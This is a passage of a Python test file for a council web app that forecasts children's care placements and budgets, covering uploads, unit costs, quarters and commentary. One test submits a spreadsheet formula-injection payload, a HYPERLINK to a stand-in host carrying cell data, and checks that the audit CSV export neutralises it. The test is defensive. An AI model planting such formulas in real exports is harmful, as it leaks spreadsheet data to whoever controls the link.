    assert report_of(web).results.forecast.forecast.settings["seed"] == 3


def test_unit_costs_are_changed_in_the_money_page_from_a_date_audited_and_used_by_the_quarter(web, clients):
    """Finance changes one line's weekly cost from a date: the file is the library's unit costs, the
    quarter is recomputed with them, the audit trail says old and new; a refused field changes nothing."""
    from datetime import date
    from decimal import Decimal

    from placecast.finance.unit_costs import read_unit_costs
    from placecast.web import audit, jobs
    from placecast.web.workspace import folder, report_config

    c = clients["finance"]
    f = folder(web.data_dir, "demo")
    page = c.get("/c/demo/money").text
    assert 'id="weekly-secure"' in page and "7,000.00" in page
    assert '<th scope="row">Secure children\'s home</th>' in page.replace("&#39;", "'")  # its label, not its id
    assert 'id="weekly-secure"' not in clients["viewer"].get("/c/demo/money").text  # read-only for others
    fields = {f"weekly-{line}": value for line, value in re.findall(r'name="weekly-([a-z_]+)"[^>]*value="([^"]*)"',
                                                                      page)}
    refused = c.post("/c/demo/money/unit-costs", data={**fields, "weekly-secure": "-5", "effective_from": "2025-04-01",
                                                      "inflation": "0", "csrftoken": token(c)})
    assert refused.status_code == 400 and "is not an amount of pounds of 0 or more" in refused.text
    assert 'value="-5"' in refused.text and not (f.inputs / "unit_costs.yaml").exists()
    # 0.03, as the unit costs file writes 3%, would be 0.03% a year in this percentage field
    tiny = c.post("/c/demo/money/unit-costs", data={**fields, "effective_from": "2025-04-01", "inflation": "0.03",
                                                   "csrftoken": token(c)})
    assert tiny.status_code == 400 and "write 3 for 3%" in tiny.text
    before = report_of(web).results.outturn
    r = c.post("/c/demo/money/unit-costs", data={**fields, "weekly-secure": "7,654.32", "effective_from": "2025-04-01",
                                                "inflation": "0", "csrftoken": token(c)})
    try:
        assert r.status_code == 303
        job = web.wait(int(r.headers["location"].rsplit("/", 1)[1]))
        assert job.status == "done", job.error
        costs = read_unit_costs(f.inputs / "unit_costs.yaml")
        assert costs.weekly("secure", date(2025, 6, 1)) == Decimal("7654.32")
        assert costs.weekly("secure", date(2025, 3, 31)) == Decimal("7000")  # before the date: as it was
        assert costs.weekly("residential_external", date(2025, 6, 1)) == Decimal("5000")  # untouched
        assert report_config(web.data_dir, "demo", "Demo", 100).unit_costs == f.inputs / "unit_costs.yaml"
        results = report_of(web).results
        assert results.inputs.unit_costs.weekly("secure", date(2025, 6, 1)) == Decimal("7654.32")
        assert results.outturn is not before
        assert "7,654.32" in c.get("/c/demo/money").text
        rows = audit.search(web.engine, audit.AuditQuery(action="unit costs changed"))
        assert rows and "secure: £7,000.00 -> £7,654.32 a week from 01/04/2025" in rows[0].detail
        assert rows[0].user == "finance"
    finally:  # the demo's other tests expect the built-in unit costs
        (f.inputs / "unit_costs.yaml").unlink(missing_ok=True)
        restore = jobs.submit(web.state.pool, web.state.settings, web.engine, 1, "quarter", "test", {}, "restore")
        assert web.wait(restore.id).status == "done"


def test_a_workspaces_settings_are_read_again_when_the_file_changes_and_each_read_is_its_own(tmp_path):
    """Every page reads the quarter; the parsed file is kept for the same text, handed out as a copy."""
    from placecast.web.workspace import WorkspaceSettings, folder

    f = folder(tmp_path, "demo")
    f.write_settings(WorkspaceSettings(quarter="2025-Q1"))
    first = f.settings()
    first.forecast["runs"] = 10  # a page changing its copy before writing it changes nothing else
    assert f.settings().forecast == {}
    f.write_settings(WorkspaceSettings(quarter="2025-Q2"))  # the same size, written at once
    assert f.settings().quarter == "2025-Q2"


def test_a_pages_sections_are_rendered_once_for_each_report_and_never_from_another(web):
    """Pages share the sections rendered from the same report; a new computation renders its own."""
    import copy
    import json

    from placecast.report.model import Chart
    from placecast.web.views import Fragments

    report = report_of(web)
    first, again = Fragments(), Fragments()
    sections = first.page(report, "forecast")
    assert again.page(report, "forecast") == sections and again.specs == first.specs
    charts = [b for s in report.sections if s.id in ("children", "model") for b in s.blocks if isinstance(b, Chart)]
    assert charts and all(c.svg.lstrip().startswith("<svg") for c in charts)  # rendered by the quarter's job
    assert json.loads(first.specs_json()) == json.loads(json.dumps(
        {f"c-{c.name}": {**c.spec, "description": c.alt} for c in charts}, default=str))
    newer = copy.deepcopy(report)  # the next quarter's computation: another model
    newer.sections[[s.id for s in newer.sections].index("children")].title = "Children in care, recomputed"
    assert "recomputed" in "".join(Fragments().page(newer, "forecast"))
    assert "recomputed" not in "".join(Fragments().page(report, "forecast"))
    both = Fragments()  # two pages' specifications together: their JSON is made for the two
    both.page(report, "forecast")
    both.page(report, "money")
    assert set(json.loads(both.specs_json())) == set(both.specs) > set(first.specs)


def test_the_data_pages_finding_counts_follow_the_findings_file(tmp_path):
    """The findings are counted once for each file; a new file (a new ingest) is counted again."""
    from placecast.web.pages import _finding_counts
    from placecast.web.workspace import read_when_changed as _read_once

    path = tmp_path / "findings.csv"
    assert _read_once(path, _finding_counts) is None  # no history yet: nothing, never zero findings
    path.write_text("severity,rule,child\nerror,101,a\nerror,101,b\nwarning,202,a\n")
    assert _read_once(path, _finding_counts) == [{"severity": "error", "rule": "101", "count": 2},
                                                 {"severity": "warning", "rule": "202", "count": 1}]
    path.write_text("severity,rule,child\nerror,303,a\n")
    assert _read_once(path, _finding_counts) == [{"severity": "error", "rule": "303", "count": 1}]


def _budget_upload(client, path):
    xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return client.post("/c/demo/money/budget", files={"workbook": (path.name, path.read_bytes(), xlsx)},
                       data={"csrftoken": token(client)})


def test_a_budget_the_quarter_cannot_use_is_not_kept(web, clients, tmp_path):
    from openpyxl import load_workbook

    from placecast.finance.budget import read_budget_model
    from placecast.finance.workbook import write_budget_workbook
    from placecast.web.workspace import folder

    f, fin = folder(web.data_dir, "demo"), clients["finance"]
    in_effect = f.budget()
    kept = in_effect.read_bytes()

    def changed(setting: str, value: str):
        path = write_budget_workbook(tmp_path / f"{setting}.xlsx", read_budget_model(in_effect))
        book = load_workbook(path)
        next(r for r in book["Settings"].iter_rows() if r[0].value == setting)[1].value = value
        book.save(path)
        return path

    # Another year's budget: refused at once (it was kept, and every quarter after it failed).
    refused = _budget_upload(fin, changed("quarter", "2024/25 Q2"))
    assert refused.status_code == 400 and "is for 2024/25" in refused.text
    assert "upload the budget for 2025/26, the year of the quarter (2025-Q2)" in refused.text  # what to do
    # Amounts in thousands marked as pounds: only the quarter's own figures show it, so its job fails, and the
    # budget in effect stays as it was (the upload replaced it before the job ran).
    staged = _budget_upload(fin, changed("units", "£"))
    assert staged.status_code == 303
    job = web.wait(int(staged.headers["location"].rsplit("/", 1)[1]))
    assert job.status == "failed" and "Check 'units:'" in job.error and "Not kept" in job.progress
    assert f.budget() == in_effect and in_effect.read_bytes() == kept
    assert not list(f.root.glob("budget-*.xlsx"))


@pytest.mark.parametrize(("shift", "said"), [(2, "no {gap} return"), (-1, "Upload it as that year's return")])
def test_returns_with_a_year_missing_or_given_the_wrong_year_are_refused_and_the_history_kept(web, clients, shift,
                                                                                               said):
    # The last year's files uploaded two years on leave a year missing; uploaded as the year before, they
    # replaced that year's return with the next year's care (a "2023/24" of 2024/25's dates).
    from placecast.web.workspace import folder

    f, a = folder(web.data_dir, "demo"), clients["analyst"]
    years = sorted(int(p.name) for p in f.returns.iterdir() if p.name.isdigit())
    before, manifest = sorted(p.name for p in f.returns.iterdir()), (f.history / "manifest.json").read_bytes()
    last = sorted((f.returns / str(years[-1])).glob("*.csv"))
    files = [("files", (p.name, p.read_bytes(), "text/csv")) for p in last]
    r = a.post("/c/demo/data/upload", data={"year": str(years[-1] + shift), "csrftoken": token(a)}, files=files)
    assert r.status_code == 303
    job = web.wait(int(r.headers["location"].rsplit("/", 1)[1]))
    gap = f"{years[-1]}/{(years[-1] + 1) % 100:02d}"
    assert job.status == "failed" and said.format(gap=gap) in job.error and "not kept" in job.error
    assert str(f.root) not in job.error and "--year" not in job.error
    assert sorted(p.name for p in f.returns.iterdir()) == before
    assert (f.history / "manifest.json").read_bytes() == manifest
    assert not list(f.root.glob("returns-*"))


def test_text_typed_at_sign_in_is_never_a_formula_in_the_audit_export(web, clients):
    # Anyone can type a user name at sign-in, and a failed sign-in is recorded as typed. In the CSV an
    # administrator opens in Excel, a cell beginning with '=' would be run as a formula.
    import csv

    from fastapi.testclient import TestClient

    c = TestClient(web.app, follow_redirects=False)
    typed = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    r = c.post("/login", data={"username": typed, "password": "not the password", "csrftoken": token(c, "/login")})
    assert r.status_code == 401
    export = clients["admin"].get("/admin/audit.csv", params={"action": "sign-in failed"})
    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
    assert "'" + typed in cells and typed not in cells


def test_a_long_job_error_is_cut_at_a_line_and_says_how_many_more():
    # It was cut at 2,000 characters, mid-problem, with nothing to say more were left out.
    from placecast.web.jobs import _shown

    message = "\n".join(f"budget.xlsx, sheet Lines, row {i}: expected a valid decimal." for i in range(2, 102))
    shown = _shown(message)
    assert len(shown) <= 2000 and shown.splitlines()[-2] in message.splitlines()
    assert shown.endswith(f"... and {100 - len(shown.splitlines()) + 1} more line(s): the command line shows them all.")
    assert _shown("short") == "short" and len(_shown("x" * 5000)) == 2000


def test_finance_changes_the_quarter_the_pages_show_and_a_quarter_that_fails_changes_nothing(web, clients):
    # There was no way to change the quarter in the browser: a workspace showed 2025-Q2 for ever.
    from placecast.web.workspace import folder, load_report

    fin, admin = clients["finance"], clients["admin"]
    f = folder(web.data_dir, "demo")
    bad = fin.post("/c/demo/money/quarter", data={"quarter": "Q3 2025", "csrftoken": token(fin)})
    assert bad.status_code == 400 and "is not a quarter" in bad.text
    other_year = fin.post("/c/demo/money/quarter", data={"quarter": "2026-Q1", "csrftoken": token(fin)})
    assert other_year.status_code == 400 and "give the budget for 2026/27 with the quarter" in other_year.text
    assert f.settings().quarter == "2025-Q2"
    moved = fin.post("/c/demo/money/quarter", data={"quarter": "2025-Q3", "population": "61,000",
                                                    "money_unit": "£m", "title": "  Quarterly  Performance Report ",
                                                    "csrftoken": token(fin)})
    assert moved.status_code == 303
    assert web.wait(int(moved.headers["location"].rsplit("/", 1)[1])).status == "done"
    assert (f.settings().quarter, f.settings().population_0_17, f.settings().money_unit) == ("2025-Q3", 61000, "£m")
    assert load_report(f, "2025-Q3").as_at.isoformat() == "2025-12-31"
    assert load_report(f, "2025-Q3").results.inputs.money_unit == "£m"  # a council reporting in millions
    assert load_report(f, "2025-Q3").title == "Quarterly Performance Report"  # as the council names it
    assert '<option value="£m" selected>' in fin.get("/c/demo/money").text
    back = fin.post("/c/demo/money/quarter", data={"quarter": "2025-Q2", "population": "60000",
                                                   "money_unit": "£000", "title": "Children's Services Portfolio "
                                                   "Performance and Resources", "csrftoken": token(fin)})
    assert web.wait(int(back.headers["location"].rsplit("/", 1)[1])).status == "done"
    assert (f.settings().quarter, f.settings().money_unit) == ("2025-Q2", "£000")
    # A workspace with no returns: the job fails, and no quarter is written for it.
    empty = folder(web.data_dir, "other")
    failed = admin.post("/c/other/money/quarter", data={"quarter": "2025-Q2", "csrftoken": token(admin)})
    assert failed.status_code == 303
    job = web.wait(int(failed.headers["location"].rsplit("/", 1)[1]))
    assert job.status == "failed" and "Not kept" in job.progress
    assert not (empty.root / "workspace.yaml").exists()


def test_an_administrator_adds_a_council_and_its_first_returns_are_kept_before_it_has_a_quarter(web, clients):
    # There was no way to add a council: only the demo's workspace existed. A new one's first upload then
    # failed its job (no quarter yet), though its returns were kept.
    from placecast.web import audit
    from placecast.web.workspace import folder

    admin = clients["admin"]
    refused = admin.post("/admin/councils", data={"name": "West council", "slug": "West Council!",
                                                  "csrftoken": token(admin)})
    assert refused.status_code == 400 and "short name of 2 to 40" in refused.text
    made = admin.post("/admin/councils", data={"name": "West council", "slug": "west", "region": "West region",
                                               "csrftoken": token(admin)})
    assert made.status_code == 303 and "West council" in admin.get("/admin/users").text
    again = admin.post("/admin/councils", data={"name": "West", "slug": "west", "csrftoken": token(admin)})
    assert again.status_code == 400 and "already a workspace" in again.text
    assert audit.search(web.engine, audit.AuditQuery(action="council created"))[0].detail.startswith("'West council'")
    demo = folder(web.data_dir, "demo").returns
    year = sorted(p for p in demo.iterdir() if p.name.isdigit())[0]
    files = [("files", (p.name, p.read_bytes(), "text/csv")) for p in sorted(year.glob("*.csv"))]
    header_only = [f for f in files if "eader" in f[1][0]]  # no episodes: refused, and nothing kept
    r = admin.post("/c/west/data/upload", data={"year": year.name, "csrftoken": token(admin)}, files=header_only)
    assert web.wait(int(r.headers["location"].rsplit("/", 1)[1])).status == "failed"
    assert not folder(web.data_dir, "west").key_file.exists()  # a failed first upload made a key for no data
    r = admin.post("/c/west/data/upload", data={"year": year.name, "csrftoken": token(admin)}, files=files)
    job = web.wait(int(r.headers["location"].rsplit("/", 1)[1]))
    assert job.status == "done" and (folder(web.data_dir, "west").history / "manifest.json").exists()
    assert folder(web.data_dir, "west").key_file.exists()
    assert "set on the money page" in job.progress  # what comes next, on the job's page
    assert "Now none" in admin.get("/c/west/money").text  # the quarter is set next, on the money page
    xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    early_budget = admin.post("/c/west/money/budget", data={"csrftoken": token(admin)},
                              files={"workbook": ("b.xlsx", b"PK\x03\x04", xlsx)})
    assert early_budget.status_code == 400 and "Choose the quarter first (above)" in early_budget.text
    for path in PAGES:  # every page of a workspace with returns and no quarter yet
        if path.startswith("/c/demo"):
            assert admin.get(path.replace("/c/demo", "/c/west")).status_code == 200, path
    early = admin.post("/c/west/forecast/settings", data={"runs": "500", "csrftoken": token(admin)})
    assert early.status_code == 400 and "no quarter yet: set one on the money page" in early.text  # was a 500


def _file_upload(client, kind: str, name: str, data: bytes, slug: str = "demo"):
    return client.post(f"/c/{slug}/files/{kind}", files={"file": (name, data, "text/plain")},
                       data={"csrftoken": token(client)})


def _job_of(web, response):
    assert response.status_code == 303, response.text[:2000]
    return web.wait(int(response.headers["location"].rsplit("/", 1)[1]))


def test_the_councils_own_indicator_targets_are_uploaded_checked_and_rate_the_quarter(web, clients):
    """A council on the web had no way to give its own targets: its indicators were rated against the
    built-in example's (the report said so, and no page could change it). An analyst downloads the example,
    changes a target and uploads it; the quarter is rated by it; stopping its use goes back to the example."""
    from placecast.web import audit
    from placecast.web.workspace import folder

    analyst, f = clients["analyst"], folder(web.data_dir, "demo")
    page = analyst.get("/c/demo/indicators").text
    assert 'id="h-file-indicators"' in page and "built-in example targets, not this council" in page
    assert 'action="/c/demo/files/indicators"' in page and 'action="/c/demo/files/plan"' not in page
    example = analyst.get("/c/demo/files/indicators")
    assert example.status_code == 200 and "STAB_LONG" in example.text
    assert 'action="/c/demo/files/indicators"' not in clients["viewer"].get("/c/demo/indicators").text
    assert clients["viewer"].get("/c/demo/files/indicators").status_code == 403

    def rag(ident: str) -> str:
        rated = report_of(web).results.indicators.rated.set_index("id")
        return str(rated.loc[ident, "rag"])

    assert rag("STAB_LONG") == "Red"  # 55.6% against a target of 70
    own = example.text.replace("2+ years,High,Council,%,70", "2+ years,High,Council,%,50")
    assert own != example.text
    job = _job_of(web, _file_upload(analyst, "indicators", "our targets.csv", own.encode()))
    try:
        assert job.status == "done", job.error
        assert (f.inputs / "indicators.csv").read_text() == own and rag("STAB_LONG") == "Green"
        assert not any("STAB_LONG" in w for w in report_of(web).warnings)  # no commentary needed for Green
        assert "this council's own file" in analyst.get("/c/demo/indicators").text
        assert analyst.get("/c/demo/files/indicators").text == own  # the file in use, to edit again
        rows = audit.search(web.engine, audit.AuditQuery(action="council file changed"))
        assert rows[0].user == "analyst" and "our targets.csv uploaded" in rows[0].detail
    finally:
        stop = analyst.post("/c/demo/files/indicators/remove", data={"csrftoken": token(analyst)})
        assert _job_of(web, stop).status == "done"
    assert f.own_file("indicators") is None and rag("STAB_LONG") == "Red"


def test_a_council_file_with_problems_or_one_the_quarter_refuses_changes_nothing(web, clients):
    from placecast.web.workspace import folder

    analyst, f = clients["analyst"], folder(web.data_dir, "demo")
    example = analyst.get("/c/demo/files/indicators").text
    # A problem in the file itself: every one listed by the field, under the name it was uploaded as.
    typo = example.replace("2+ years,High,Council", "2+ years,Higher,Council")
    refused = _file_upload(analyst, "indicators", "targets.csv", typo.encode())
    assert refused.status_code == 400 and "The file was not used: 1 problem(s)" in refused.text
    assert "targets.csv, line 8" in refused.text and "Higher" in refused.text, refused.text
    assert f.own_file("indicators") is None and not list(f.root.glob("indicators-*"))
    wrong = _file_upload(analyst, "indicators", "targets.xlsx", b"PK\x03\x04")
    assert wrong.status_code == 400 and "is not a .csv file" in wrong.text
    # A file that reads but that the quarter cannot use (the commentary is for EXT_RES, which it leaves out):
    # the job fails, says why, and the example stays in use.
    without = "\n".join(line for line in example.splitlines() if not line.startswith("EXT_RES,")) + "\n"
    job = _job_of(web, _file_upload(analyst, "indicators", "targets.csv", without.encode()))
    assert job.status == "failed" and "EXT_RES" in job.error and "Not kept" in job.progress
    assert f.own_file("indicators") is None and not list(f.root.glob("indicators-*"))


def test_council_files_are_changed_only_by_their_roles_and_kept_at_once_without_a_quarter(web, clients):
    from placecast.web.workspace import folder

    analyst, finance = clients["analyst"], clients["finance"]
    assert _file_upload(analyst, "plan", "plan.yaml", b"x: 1").status_code == 403
    assert _file_upload(finance, "rag-rules", "rules.yaml", b"x: 1").status_code == 403
    assert analyst.get("/c/demo/files/plan").status_code == 403  # the programme log names children
    plan = finance.get("/c/demo/files/plan")  # the demo's own plan, in use
    assert plan.status_code == 200 and plan.text == (folder(web.data_dir, "demo").inputs / "plan.yaml").read_text()
    empty = finance.get("/c/demo/files/commitments")  # none, and no example: the register's columns
    assert empty.status_code == 200 and empty.text.startswith("child_id,placement_ref,")
    assert 'action="/c/demo/files/commitments"' in finance.get("/c/demo/money").text
    assert 'action="/c/demo/files/scenario"' in finance.get("/c/demo/programme").text
    assert analyst.get("/c/demo/files/nonsense").status_code == 404
    # A workspace with no quarter yet keeps a file that reads at once; the quarter uses it when it is computed.
    other = login(web.app, "elsewhere")
    rules = other.get("/c/other/files/rag-rules").text
    kept = _file_upload(other, "rag-rules", "our rules.yml", rules.encode(), slug="other")
    assert kept.status_code == 303 and kept.headers["location"] == "/c/other/indicators#h-file-rag-rules"
    assert (folder(web.data_dir, "other").inputs / "rules.yaml").read_text() == rules
    assert "this council's own file" in other.get("/c/other/indicators").text


def test_finance_uploads_the_commitments_register_and_the_outturn_costs_it(web, clients):
    """The commitments register was the CLI's only: on the web the outturn's committed costs were always the
    placements open in the history at the unit costs. A register in Excel is read with the workspace's key."""
    from openpyxl import Workbook

    from placecast.web.workspace import folder

    finance, f = clients["finance"], folder(web.data_dir, "demo")
    book = Workbook()
    book.active.append(["child_id", "placement_ref", "provider", "cost_line", "weekly_cost", "start", "planned_end"])
    book.active.append(["C0001", "P1", "Acme Homes", "residential_external", 6500, "01/04/2025", None])
    data = io.BytesIO()
    book.save(data)
    before = report_of(web).results.inputs.commitments
    assert before is None
    xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    bad = book.active.cell(2, 4)
    bad.value = "residential"  # not a cost line: refused at once, by line and column
    wrong = io.BytesIO()
    book.save(wrong)
    refused = finance.post("/c/demo/files/commitments", files={"file": ("register.xlsx", wrong.getvalue(), xlsx)},
                           data={"csrftoken": token(finance)})
    assert refused.status_code == 400 and "register.xlsx, line 2" in refused.text and "residential" in refused.text
    job = _job_of(web, finance.post("/c/demo/files/commitments", files={"file": ("register.xlsx", data.getvalue(),
                                                                                xlsx)},
                                    data={"csrftoken": token(finance)}))
    try:
        assert job.status == "done", job.error
        assert f.own_file("commitments") == f.inputs / "commitments.xlsx"
        register = report_of(web).results.inputs.commitments
        assert register is not None and len(register.table) == 1
        assert "C0001" not in set(register.table["child_id"])  # pseudonymised with the workspace's key
    finally:
        stop = finance.post("/c/demo/files/commitments/remove", data={"csrftoken": token(finance)})
        assert _job_of(web, stop).status == "done"
    assert f.own_file("commitments") is None and report_of(web).results.inputs.commitments is None


def test_a_council_with_its_own_placement_taxonomy_assembles_forecasts_and_costs_by_it_on_the_web(web, clients):
    """The web assembled every council's returns with the built-in taxonomy: a council grouping solo
    residential placements (S1) as a category of its own had them folded into residential. Its taxonomy is
    now uploaded on the data page and the returns assembled again with it; the quarter then asks for a unit
    cost for the new category (on the money page), and costs it once given."""
    import shutil

    from placecast.ssda903.history_io import categories_of
    from placecast.web import workspace
    from placecast.web.workspace import folder, load_report

    admin = clients["admin"]
    workspace.create_council(web.engine, web.data_dir, "own-groups", "Own groups council", "Demo region")
    demo, f = folder(web.data_dir, "demo"), folder(web.data_dir, "own-groups")
    shutil.copytree(demo.returns, f.returns, dirs_exist_ok=True)
    shutil.copyfile(demo.inputs / "budget.yaml", f.inputs / "budget.yaml")
    shutil.copyfile(demo.settings_file, f.settings_file)
    example = admin.get("/c/own-groups/files/taxonomy").text
    assert "residential_external" in example and "Placement taxonomy" in admin.get("/c/own-groups/data").text
    solo = example.replace(", S1], provider", "], provider").replace(
        '  - {category: secure,', '  - {category: residential_solo, label: "Solo residential", place: [S1]}\n'
                                 '  - {category: secure,')
    assert solo.count("S1") == 1
    # A taxonomy leaving a current code out for some providers is refused at once, by line.
    gap = example.replace('K2, R1, P3, S1], provider: [PR0', 'R1, P3, S1], provider: [PR0')
    refused = _file_upload(admin, "taxonomy", "groups.yaml", gap.encode(), slug="own-groups")
    assert refused.status_code == 400 and "groups.yaml" in refused.text and "K2" in refused.text, refused.text
    assert f.own_file("taxonomy") is None
    job = _job_of(web, _file_upload(admin, "taxonomy", "groups.yaml", solo.encode(), slug="own-groups"))
    # The returns are assembled with it and kept; the quarter needs a unit cost for the new category.
    assert job.status == "failed" and "assembled and kept" in job.error
    assert "residential_solo" in job.error and "unit costs file on the web's money page" in job.error
    assert f.own_file("taxonomy") is not None and "residential_solo" in categories_of(f.history)
    costs = admin.get("/c/own-groups/files/unit-costs").text  # the built-in costs, to add the line to
    assert "residential_external" in costs
    rows = ["cost_line,weekly_cost,effective_from", "residential_solo,9000,2020-04-01"]
    rows += [f"{line},1000,2020-04-01" for line in categories_of(f.history) if line != "residential_solo"]
    job = _job_of(web, _file_upload(admin, "unit-costs", "costs.csv", "\n".join(rows).encode(), slug="own-groups"))
    assert job.status == "done", job.error
    assert "residential_solo:" in (f.inputs / "unit_costs.yaml").read_text()  # kept as the form's YAML
    report = load_report(f, "2025-Q2")
    assert "residential_solo" in report.results.forecast.forecast.categories
    assert "Solo residential" in admin.get("/c/own-groups/forecast").text
    money = admin.get("/c/own-groups/money").text
    assert '<th scope="row">Solo residential</th>' in money and "9,000.00" in money  # its label, its cost
    # The planner steps children down from the council's own categories (it refused them as unknown).
    assert '<option value="residential_solo">Solo residential</option>' in admin.get("/c/own-groups/scenarios").text
    form = {"name": "Solo step-downs", "start": report.results.forecast.model.origin_.date().isoformat(),
            "step_downs_per_month": "0.5", "step_down_from": "residential_solo", "step_down_to": "fostering_inhouse",
            "horizon_months": "12", "csrftoken": token(admin)}
    preview = admin.post("/c/own-groups/scenarios/preview", data=form)
    assert preview.status_code == 200, preview.text
    solo = {r["scenario"]: r["mean"] for r in preview.json()["tables"]["children"]
            if r["category"] == "residential_solo"}
    assert solo["Solo step-downs"] < solo["baseline"]
    assert "Solo residential" in [r["category"] for r in preview.json()["tables"]["children_compared"]]
    assert admin.post("/c/demo/scenarios/preview", data=form).status_code == 400  # not one of the demo's
    stop = admin.post("/c/own-groups/files/taxonomy/remove", data={"csrftoken": token(admin)})
    assert _job_of(web, stop).status == "done"  # assembled again with the built-in taxonomy
    assert f.own_file("taxonomy") is None and "residential_solo" not in categories_of(f.history)


def test_section_commentary_is_written_by_the_pages_owner_and_belongs_to_its_quarter(web, clients):
    """The web wrote indicator commentary only, into one file for every quarter: the report's sections had
    no narrative but the demo's, and a new quarter's report printed last quarter's paragraphs as its own."""
    from placecast.web import audit, jobs
    from placecast.web.workspace import folder, report_config

    finance, analyst = clients["finance"], clients["analyst"]
    words = "The placements budget is forecast to overspend because of two secure placements since July."
    assert 'action="/c/demo/commentary/section"' in finance.get("/c/demo/money").text
    assert 'id="section-outturn"' not in analyst.get("/c/demo/money").text  # the outturn is finance's
    assert 'id="section-children"' in analyst.get("/c/demo/forecast").text
    refused = analyst.post("/c/demo/commentary/section", data={"section": "outturn", "text": words,
                                                               "csrftoken": token(analyst)})
    assert refused.status_code == 403
    assert finance.post("/c/demo/commentary/section", data={"section": "appendix", "text": words,
                                                            "csrftoken": token(finance)}).status_code == 404
    r = finance.post("/c/demo/commentary/section", data={"section": "outturn", "text": words + "\n  ",
                                                         "csrftoken": token(finance)})
    assert r.status_code == 303 and r.headers["location"] == "/c/demo/money#s-outturn"
    # The pages show it once the report is laid out again with it (a paragraph saved was shown only once the
    # quarter was next computed): nothing is computed again, so every figure and chart is as it was.
    before = report_of(web)
    job = jobs.jobs_of(web.engine, 1, "commentary", limit=1)[0]
    assert web.wait(job.id).status == "done" and job.requested_by == "finance"
    after = report_of(web)
    outturn = next(s for s in after.sections if s.id == "outturn")
    assert outturn.intro == words
    assert words in finance.get("/c/demo/money").text
    assert after.headline == before.headline and after.results is not before.results
    charts = [(b.name, b.svg) for s in after.sections for b in s.blocks if hasattr(b, "svg")]
    assert charts and charts == [(b.name, b.svg) for s in before.sections for b in s.blocks if hasattr(b, "svg")]
    said = audit.search(web.engine, audit.AuditQuery(action="commentary changed"))[0]
    assert said.detail.startswith("section outturn") and said.user == "finance"
    # The demo's own paragraphs are its quarter's; another quarter has none until they are written for it.
    f = folder(web.data_dir, "demo")
    assert report_config(web.data_dir, "demo", "Demo", 100).commentary == f.inputs / "commentary" / "2025-Q2.yaml"
    assert report_config(web.data_dir, "demo", "Demo", 100, staged={"quarter": "2025-Q3"}).commentary is None
    assert "step-down team" in (f.inputs / "commentary" / "2025-Q2.yaml").read_text()  # the demo's, kept


def test_paragraphs_saved_one_after_another_are_laid_out_once(web):
    """Each paragraph saved queues the quarter's layout; one queued behind a later one leaves it to that one."""
    from datetime import UTC, datetime

    from sqlalchemy.orm import Session

    from placecast.store.workspace import Council, Job
    from placecast.web import jobs

    with Session(web.engine) as s, s.begin():
        made = [Job(council_id=1, kind="commentary", subject="test", status="queued", progress="",
                    requested_by="test", created_at=datetime.now(UTC), result={"params": {"quarter": "2025-Q2"}})
                for _ in range(2)]
        s.add_all(made)
        s.flush()
        first, second = (j.id for j in made)
        council = s.get(Council, 1)
        s.expunge(council)
    try:
        before = report_of(web)
        ctx = jobs.Context(web.state.settings, web.engine, first, council, "test", {"quarter": "2025-Q2"})
        said = jobs.run_commentary(ctx)["note"]
        assert said == f"Finished: the pages show the commentary once job {second} has laid it out"
        assert report_of(web) is before  # nothing written
        ctx = jobs.Context(web.state.settings, web.engine, second, council, "test", {"quarter": "2025-Q2"})
        assert jobs.run_commentary(ctx)["note"] == "Finished: the pages show the commentary"
        assert report_of(web) is not before and report_of(web).headline == before.headline
    finally:
        with Session(web.engine) as s, s.begin():
            for job in s.query(Job).filter(Job.id.in_((first, second))):
                job.status = "done"


def test_the_one_commentary_file_of_earlier_versions_becomes_the_shown_quarters(tmp_path):
    from placecast.web.workspace import Folder, WorkspaceSettings, _legacy_commentary

    f = Folder(tmp_path)
    (f.inputs).mkdir(parents=True)
    f.write_settings(WorkspaceSettings(quarter="2025-Q3"))
    (f.inputs / "commentary.yaml").write_text("indicators: {CLA: Written in an earlier version.}\n")
    _legacy_commentary(f)
    assert not (f.inputs / "commentary.yaml").exists()
    assert "earlier version" in (f.inputs / "commentary" / "2025-Q3.yaml").read_text()


def test_values_of_indicators_from_other_systems_are_checked_and_need_a_definition(web, clients):
    from placecast.web.workspace import folder

    analyst, f = clients["analyst"], folder(web.data_dir, "demo")
    assert 'action="/c/demo/files/indicator-values"' in analyst.get("/c/demo/indicators").text
    bad = _file_upload(analyst, "indicator-values", "values.csv",
                       b"id,current,current_date\nCL_EET,eighty,30/09/2025\n")
    assert bad.status_code == 400 and "values.csv, line 2" in bad.text and "eighty" in bad.text
    job = _job_of(web, _file_upload(analyst, "indicator-values", "values.csv",
                                    b"id,current,current_date\nCL_EET,64.5,30/09/2025\n"))
    assert job.status == "failed" and "no definition has this id" in job.error and "Not kept" in job.progress
    assert f.own_file("values") is None


def test_a_council_is_benchmarked_against_its_statistical_neighbours_by_its_name_in_the_dfe_statistics(web, clients):
    """Only the demo was benchmarked (named at first start); a council's own workspace had no way to say
    which council of the DfE's statistics it is, so its report had no benchmark."""
    from pathlib import Path

    from placecast.web.workspace import folder

    stats = Path(__file__).resolve().parents[2] / "shared" / "reference" / "dfe"
    analyst, f = clients["analyst"], folder(web.data_dir, "demo")
    unavailable = analyst.post("/c/demo/indicators/benchmark", data={"council": "Stockport",
                                                                      "csrftoken": token(analyst)})
    assert unavailable.status_code == 400 and "needs the DfE statistics on the server" in unavailable.text
    if not stats.is_dir():
        pytest.skip("the DfE statistics are not beside the project")
    settings = web.state.settings
    web.state.settings = settings.model_copy(update={"dfe_stats": stats})
    try:
        assert "This council is not benchmarked yet" in analyst.get("/c/demo/indicators").text
        typo = analyst.post("/c/demo/indicators/benchmark", data={"council": "Stockprt", "csrftoken": token(analyst)})
        assert typo.status_code == 400 and "Did you mean Stockport" in typo.text
        job = _job_of(web, analyst.post("/c/demo/indicators/benchmark", data={"council": "Stockport",
                                                                               "csrftoken": token(analyst)}))
        assert job.status == "done", job.error
        assert f.settings().benchmark_council == "Stockport"
        assert any(s.id == "benchmark" for s in report_of(web).sections)
        assert "benchmarked as <strong>Stockport</strong>" in analyst.get("/c/demo/indicators").text
    finally:
        stop = analyst.post("/c/demo/indicators/benchmark", data={"council": "", "csrftoken": token(analyst)})
        assert _job_of(web, stop).status == "done"
        web.state.settings = settings
    assert f.settings().benchmark_council == "" and not any(s.id == "benchmark" for s in report_of(web).sections)


